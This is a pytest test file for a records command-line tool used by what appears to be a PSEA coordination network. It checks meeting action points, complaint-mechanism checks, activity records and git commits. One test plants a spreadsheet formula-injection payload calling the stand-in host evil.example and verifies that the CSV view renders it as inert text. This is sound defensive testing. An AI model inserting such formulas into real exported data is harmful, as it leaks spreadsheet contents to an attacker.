"""The records commands as a coordinator runs them: add, done, check, and the weekly views in
every format, on a real repository (files, YAML, git)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import git
import pytest
from typer.testing import CliRunner

from psea_cli.cli import app
from psea_cli.validation import load_dataset

REPO = Path(__file__).parent.parent


def _run(runner: CliRunner, repo: Path, *args: str) -> object:
    return runner.invoke(app, ["--root", str(repo), "--lang", "en", *args])


def _meeting(runner: CliRunner, repo: Path) -> str:
    result = _run(runner, repo, "meeting", "add", "--date", "2021-03-04", "--org", "alpha",
                  "--org", "beta", "--minutes", "CR n° 12", "--decision", "Plan adopté",
                  "--action", "beta|2021-03-20|Partager le compte rendu",
                  "--action", "alpha|2021-04-30|Mettre à jour l'annuaire")
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    return str(result.stdout.splitlines()[-1])  # type: ignore[attr-defined]


def test_meeting_add_then_overdue_action_points_by_owner(
        runner: CliRunner, valid_repo: Path) -> None:
    meeting_id = _meeting(runner, valid_repo)
    assert meeting_id == "2021-03-04-network"
    result = _run(runner, valid_repo, "action", "list", "--overdue", "--as-of", "2021-04-01",
                  "--format", "json")
    document = json.loads(result.stdout)  # type: ignore[attr-defined]
    assert document["count"] == 1
    assert [(i["ref"], i["owner"], i["days_late"]) for i in document["items"]] == [
        ("2021-03-04-network#1", "beta", 12)]
    table = _run(runner, valid_repo, "action", "list", "--overdue", "--as-of", "2021-05-15")
    lines = table.stdout.splitlines()  # type: ignore[attr-defined]
    assert [line.split()[0] for line in lines[1:3]] == [  # by owner: Agence Alpha, then Beta
        "2021-03-04-network#2", "2021-03-04-network#1"]
    assert lines[-1] == "2 action points"


def test_action_done_closes_the_point_and_the_file_stays_valid(
        runner: CliRunner, valid_repo: Path) -> None:
    _meeting(runner, valid_repo)
    done = _run(runner, valid_repo, "action", "done", "2021-03-04-network#1", "--date",
                "2021-03-18")
    assert done.exit_code == 0, done.output  # type: ignore[attr-defined]
    dataset, problems = load_dataset(valid_repo, use_cache=False)
    assert problems == []
    point = dataset.records.meetings[0].value.action_points[0]
    assert (point.status, point.closed.isoformat()) == ("done", "2021-03-18")  # type: ignore[union-attr]
    late = _run(runner, valid_repo, "action", "list", "--overdue", "--as-of", "2021-04-01")
    assert "No action point is past its due day." in late.stdout  # type: ignore[attr-defined]
    meeting = valid_repo / dataset.records.meetings[0].file
    before = meeting.read_bytes()
    early = _run(runner, valid_repo, "action", "done", "2021-03-04-network#1", "--date",
                 "2021-03-01")
    assert early.exit_code == 2  # type: ignore[attr-defined]
    assert "before the meeting (2021-03-04)" in early.output  # type: ignore[attr-defined]
    again = _run(runner, valid_repo, "action", "done", "2021-03-04-network#1", "--dropped",
                 "--date", "2021-03-20")
    assert again.exit_code == 1  # type: ignore[attr-defined]
    assert "already marked done on 2021-03-18" in again.output  # type: ignore[attr-defined]
    assert meeting.read_bytes() == before  # the first closing is never rewritten silently


@pytest.mark.parametrize("ref", ["2021-03-04-network", "2021-03-04-network#0", "nope#1",
                                 "2021-03-04-network#9", "2021-03-04-network#²",
                                 "2021-03-04-network#" + "9" * 5000])
def test_a_wrong_action_point_is_a_usage_error(
        runner: CliRunner, valid_repo: Path, ref: str) -> None:
    _meeting(runner, valid_repo)
    before = (valid_repo / "data/meetings/2021-03-04-network.yaml").read_bytes()
    result = _run(runner, valid_repo, "action", "done", ref)
    assert result.exit_code == 2  # type: ignore[attr-defined]
    assert (valid_repo / "data/meetings/2021-03-04-network.yaml").read_bytes() == before


def test_cbcm_add_check_and_not_checked_since(runner: CliRunner, valid_repo: Path) -> None:
    added = _run(runner, valid_repo, "cbcm", "add", "--name", "Comité de Sévaré", "--kind",
                 "community_committee", "--region", "mopti", "--host", "beta",
                 "--set-up", "2020-06-01")
    assert added.exit_code == 0, added.output  # type: ignore[attr-defined]
    mechanism = added.stdout.splitlines()[-1]  # type: ignore[attr-defined]
    assert mechanism == "ml05-comite-de-sevare"
    never = _run(runner, valid_repo, "cbcm", "list", "--not-checked-since", "90d", "--as-of",
                 "2020-12-31", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(never.stdout)))  # type: ignore[attr-defined]
    assert [(r["id"], r["last_check"]) for r in rows] == [(mechanism, "")]
    checked = _run(runner, valid_repo, "cbcm", "check", mechanism, "--not-functional",
                   "--date", "2020-12-01", "--note", "boîte endommagée")
    assert checked.exit_code == 0, checked.output  # type: ignore[attr-defined]
    recent = _run(runner, valid_repo, "cbcm", "list", "--not-checked-since", "90d", "--as-of",
                  "2020-12-31", "--format", "json")
    assert json.loads(recent.stdout)["count"] == 0  # type: ignore[attr-defined]
    later = _run(runner, valid_repo, "cbcm", "list", "--not-checked-since", "12w", "--as-of",
                 "2021-03-15", "--format", "json")
    item = json.loads(later.stdout)["items"][0]  # type: ignore[attr-defined]
    assert (item["functional"], item["days_since_check"]) == (False, 104)
    assert load_dataset(valid_repo, use_cache=False)[1] == []


def test_activity_add_counts_only_and_refuses_a_name_in_the_note(
        runner: CliRunner, valid_repo: Path) -> None:
    args = ["activity", "add", "training", "--date", "2020-09-02", "--region", "ML05",
            "--organiser", "alpha", "--organiser", "beta", "--plan-activity", "1.1.1",
            "--audience", "government_officials", "--women", "4", "--men", "7",
            "--material", "leaflets=25"]
    refused = _run(runner, valid_repo, *args, "--note", "animée par Mme Traoré")
    assert refused.exit_code == 1  # type: ignore[attr-defined]
    assert "records.identifying-note" in refused.stderr  # type: ignore[attr-defined]
    assert "Traoré" not in refused.output  # type: ignore[attr-defined]
    assert not (valid_repo / "data" / "sessions").exists() or not list(
        (valid_repo / "data" / "sessions").iterdir())
    added = _run(runner, valid_repo, *args)
    assert added.exit_code == 0, added.output  # type: ignore[attr-defined]
    assert added.stdout.splitlines()[-1] == "2020-09-02-ml05-government-officials"  # type: ignore[attr-defined]
    dataset, problems = load_dataset(valid_repo, use_cache=False)
    assert problems == []
    session = dataset.records.sessions[0].value
    assert (session.participants.total, session.organisers, session.materials) == (
        11, ["alpha", "beta"], {"leaflets": 25})


def test_unknown_organisation_or_activity_writes_nothing(
        runner: CliRunner, valid_repo: Path) -> None:
    result = _run(runner, valid_repo, "activity", "add", "awareness", "--date", "2020-09-02",
                  "--region", "ML05", "--organiser", "gamma", "--plan-activity", "9.9.9",
                  "--audience", "staff", "--women", "4")
    assert result.exit_code == 1  # type: ignore[attr-defined]
    assert "ref.unknown-organisation" in result.stderr  # type: ignore[attr-defined]
    assert "records.unknown-activity" in result.stderr  # type: ignore[attr-defined]
    assert not list((valid_repo / "data" / "sessions").glob("*.yaml"))


def test_missing_options_are_named(runner: CliRunner, valid_repo: Path) -> None:
    result = _run(runner, valid_repo, "activity", "add", "training", "--date", "2020-09-02")
    assert result.exit_code == 2  # type: ignore[attr-defined]
    assert "--region, --organiser, --audience" in result.stderr  # type: ignore[attr-defined]
    # these commands never ask: the hint sends to --help, not to a terminal it already is in
    assert "--help" in result.stderr  # type: ignore[attr-defined]
    assert "terminal" not in result.stderr  # type: ignore[attr-defined]


def test_a_meeting_is_recorded_only_with_its_day(runner: CliRunner, valid_repo: Path) -> None:
    """Tried without options to see what it asks, it recorded an empty network meeting
    dated today, counted in the next report."""
    before = sorted(valid_repo.rglob("*.yaml"))
    result = _run(runner, valid_repo, "meeting", "add")
    assert result.exit_code == 2  # type: ignore[attr-defined]
    assert "--date" in result.stderr  # type: ignore[attr-defined]
    assert sorted(valid_repo.rglob("*.yaml")) == before


def test_assessment_add_derives_the_overall_rating_and_list_due(
        runner: CliRunner, valid_repo: Path) -> None:
    ratings = [f"--rating={s}=met" for s in ("policy", "management", "human_resources",
                                             "training", "reporting", "assistance",
                                             "investigations")] + ["--rating",
                                                                   "corrective_action=not_met"]
    added = _run(runner, valid_repo, "assessment", "add", "--org", "beta", "--framework",
                 "un_ip_protocol", "--date", "2020-10-01", *ratings)
    assert added.exit_code == 0, added.output  # type: ignore[attr-defined]
    dataset, problems = load_dataset(valid_repo, use_cache=False)
    assert problems == []
    assessment = dataset.records.agency_assessments[0].value
    assert (assessment.overall, str(assessment.next_review)) == ("medium", "2021-10-01")
    due = _run(runner, valid_repo, "assessment", "list", "--due", "--as-of", "2021-10-11",
               "--format", "json")
    assert [(i["id"], i["days_late"]) for i in json.loads(due.stdout)["items"]] == [  # type: ignore[attr-defined]
        ("beta-2020", 10)]
    early = _run(runner, valid_repo, "assessment", "list", "--due", "--as-of", "2021-09-30")
    assert "No assessment is due for review." in early.stdout  # type: ignore[attr-defined]


def test_commit_commits_only_the_record(runner: CliRunner, valid_repo: Path) -> None:
    repo = git.Repo.init(valid_repo)
    with repo.config_writer() as config:
        config.set_value("user", "name", "Core team")
        config.set_value("user", "email", "core@example.org")
    repo.index.add([p.relative_to(valid_repo).as_posix() for p in valid_repo.rglob("*.yaml")])
    repo.index.commit("start")
    (valid_repo / "data/focal_points/beta.yaml").write_text("id: beta\n")  # unstaged change
    result = _run(runner, valid_repo, "meeting", "add", "--date", "2021-03-04", "--commit")
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    head = repo.head.commit
    assert head.message.rstrip("\n") == "records: add meeting 2021-03-04-network"
    assert list(head.stats.files) == ["data/meetings/2021-03-04-network.yaml"]


def test_the_views_of_the_shipped_data_in_every_format(runner: CliRunner) -> None:
    for command in (["action", "list", "--overdue"], ["cbcm", "list"],
                    ["assessment", "list", "--due"]):
        for output_format in ("table", "md", "csv", "json"):
            result = _run(runner, REPO, *command, "--as-of", "2022-01-15", "--format",
                          output_format)
            assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
            assert result.stdout.strip()  # type: ignore[attr-defined]
    overdue = json.loads(_run(runner, REPO, "action", "list", "--overdue", "--as-of",
                              "2022-01-15", "--format", "json").stdout)  # type: ignore[attr-defined]
    assert overdue["count"] >= 1
    assert all(i["status"] == "open" and i["days_late"] > 0 for i in overdue["items"])


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_the_views_say_codes_in_words_and_the_csv_keeps_the_codes(runner: CliRunner,
                                                                  lang: str) -> None:
    from psea_cli.records.vocabulary import WORDS

    codes = {code for words in WORDS.values() for code in words if code != "other"}
    said = codes if lang == "fr" else {c for c in codes if "_" in c}  # "done" is both in English
    seen = ""
    for command in (["action", "list"], ["cbcm", "list"], ["assessment", "list"]):
        for output_format in ("table", "md"):
            result = _run(runner, REPO, "--lang", lang, *command, "--as-of", "2022-01-15",
                          "--format", output_format)
            shown = result.stdout  # type: ignore[attr-defined]
            cells = {c.strip() for line in shown.splitlines() for c in re.split(r"\||  +", line)}
            assert not cells & said, (command, output_format, cells & said)
            seen += shown
        table = csv.DictReader(io.StringIO(_run(
            runner, REPO, *command, "--format", "csv").stdout))  # type: ignore[attr-defined]
        assert set(next(iter(table)).values()) & codes  # CSV keeps the codes
    words = {"fr": ("réalisé", "boîte à suggestions", "pleine capacité"),
             "en": ("done", "suggestion box", "full capacity")}[lang]
    assert all(word in seen for word in words)


def test_a_records_note_may_link_an_organisations_page(runner: CliRunner,
                                                       valid_repo: Path) -> None:
    """A record speaks of an activity: the network's own page is evidence, not a handle."""
    args = ["activity", "add", "training", "--date", "2020-09-02", "--region", "ML05",
            "--organiser", "alpha", "--plan-activity", "1.1.1",
            "--audience", "government_officials", "--women", "4", "--men", "7"]
    refused = _run(runner, valid_repo, *args, "--note", "inscription par facebook: fatou.traore92")
    assert refused.exit_code == 1  # type: ignore[attr-defined]
    assert "records.identifying-note" in refused.stderr  # type: ignore[attr-defined]
    added = _run(runner, valid_repo, *args, "--note",
                 "annoncée sur facebook.com/PSEANetworkMali et facebook.com/events/123456789")
    assert added.exit_code == 0, added.output  # type: ignore[attr-defined]
    assert load_dataset(valid_repo, use_cache=False)[1] == []


def test_a_formula_in_a_meeting_file_reaches_the_csv_views_as_inert_text(
        runner: CliRunner, valid_repo: Path) -> None:
    _meeting(runner, valid_repo)
    meeting = valid_repo / "data/meetings/2021-03-04-network.yaml"
    formula = '=HYPERLINK("http://evil.example/"&A1,"clic")'
    meeting.write_text(meeting.read_text(encoding="utf-8").replace(
        "text: Partager le compte rendu", f"text: '{formula}'"), encoding="utf-8")
    assert formula in (point.text for point in load_dataset(
        valid_repo, use_cache=False)[0].records.meetings[0].value.action_points)
    result = _run(runner, valid_repo, "action", "list", "--format", "csv")
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    texts = [row["text"] for row in csv.DictReader(io.StringIO(
        result.stdout))]  # type: ignore[attr-defined]
    assert "'" + formula in texts
    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)


@pytest.mark.parametrize("count", ["²", "9" * 5000])
def test_a_material_count_python_cannot_read_is_refused_not_an_internal_error(
        runner: CliRunner, valid_repo: Path, count: str) -> None:
    result = _run(runner, valid_repo, "activity", "add", "training", "--date", "2021-03-04",
                  "--region", "ML05", "--audience", "community_members", "--organiser",
                  "alpha", "--women", "3", "--material", f"posters={count}")
    assert result.exit_code == 1, result.output  # type: ignore[attr-defined]
    assert "internal error" not in result.output  # type: ignore[attr-defined]
    assert "nothing was written" in result.output  # type: ignore[attr-defined]
    assert not list((valid_repo / "data").rglob("2021-03-04-*"))


def test_commit_refuses_while_a_merge_is_under_way(runner: CliRunner, valid_repo: Path) -> None:
    """``psea case rekey --commit`` in the middle of a merge (the conflict fixed in the file,
    not yet added) concluded the merge under psea's message, the conflict marked resolved
    by the files it added (found by a hostile review). Every command that commits refuses
    before it writes anything while a merge, a rebase or a cherry-pick is under way."""
    repo = git.Repo.init(valid_repo)
    with repo.config_writer() as config:
        config.set_value("user", "name", "Core team")
        config.set_value("user", "email", "core@example.org")
    repo.index.add([p.relative_to(valid_repo).as_posix() for p in valid_repo.rglob("*.yaml")])
    repo.index.commit("start")
    main = repo.active_branch
    beta = valid_repo / "data/focal_points/beta.yaml"
    original = beta.read_text(encoding="utf-8")
    other = repo.create_head("other")
    other.checkout()
    beta.write_text(original + "# other\n", encoding="utf-8")
    repo.index.add([beta.relative_to(valid_repo).as_posix()])
    repo.index.commit("other")
    main.checkout()
    beta.write_text(original + "# main\n", encoding="utf-8")
    repo.index.add([beta.relative_to(valid_repo).as_posix()])
    repo.index.commit("main")
    with pytest.raises(git.GitCommandError):
        repo.git.merge("other")
    beta.write_text(original + "# both\n", encoding="utf-8")  # fixed, not added
    head = repo.head.commit
    result = _run(runner, valid_repo, "meeting", "add", "--date", "2021-03-04", "--commit")
    assert result.exit_code == 1, result.output  # type: ignore[attr-defined]
    assert "a git merge (or a rebase, a cherry-pick) is under way" in result.output  # type: ignore[attr-defined]
    assert repo.head.commit == head
    assert (Path(repo.git_dir) / "MERGE_HEAD").exists()
    assert not (valid_repo / "data/meetings/2021-03-04-network.yaml").exists()
